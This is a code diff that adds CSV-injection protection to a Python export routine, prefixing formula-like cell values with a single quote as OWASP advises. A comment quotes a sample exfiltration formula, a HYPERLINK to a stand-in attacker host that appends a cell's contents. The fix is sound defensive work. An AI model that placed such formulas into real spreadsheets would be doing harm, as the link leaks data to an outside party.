@@ -91,9 +91,22 @@ class Echo:
         return value
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula
+# (=HYPERLINK("http://evil.example/x?"&A1,"Click")); OWASP's advice for CSV injection is to
+# prefix such a cell with a single quote, which spreadsheets show as text. The JSON export
+# keeps every text exactly as it is.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value):
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def flat(row: dict) -> dict:
     return {
-        key: ISSUE_SEPARATOR.join(value) if isinstance(value, list) else value
+        key: spreadsheet_safe(ISSUE_SEPARATOR.join(value) if isinstance(value, list) else value)
         for key, value in row.items()
     }
 
